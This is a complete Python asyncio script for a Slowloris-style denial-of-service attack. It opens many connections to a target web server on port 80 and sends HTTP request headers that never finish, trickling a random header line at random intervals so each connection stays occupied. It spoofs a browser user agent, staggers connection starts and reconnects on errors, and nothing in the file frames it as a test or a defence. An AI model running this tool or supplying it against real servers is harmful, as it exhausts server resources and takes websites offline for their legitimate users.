"""Keeps many HTTP requests open by never finishing their headers."""
import asyncio
import random
import sys
import time


async def main() -> None:
    host, connections, low_s, high_s, seconds = sys.argv[1], *map(int, sys.argv[2:6])
    until = time.monotonic() + seconds
    counts = {"opened": 0, "lines": 0}

    async def hold() -> None:
        while time.monotonic() < until:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(host, 80), 5)
                counts["opened"] += 1
                writer.write(f"GET /?{random.randrange(9999)} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\n".encode())
                while time.monotonic() < until:
                    await asyncio.sleep(random.uniform(low_s, high_s))
                    writer.write(f"X-a: {random.randrange(5000)}\r\n".encode())
                    await writer.drain()
                    counts["lines"] += 1
                    if reader.at_eof():
                        break
                writer.close()
            except (OSError, asyncio.TimeoutError):
                await asyncio.sleep(1)

    async def later(delay: float) -> None:
        await asyncio.sleep(delay)
        await hold()

    await asyncio.gather(*(later(random.uniform(0, min(8, seconds / 3))) for _ in range(connections)))
    print("held", counts)


asyncio.run(main())
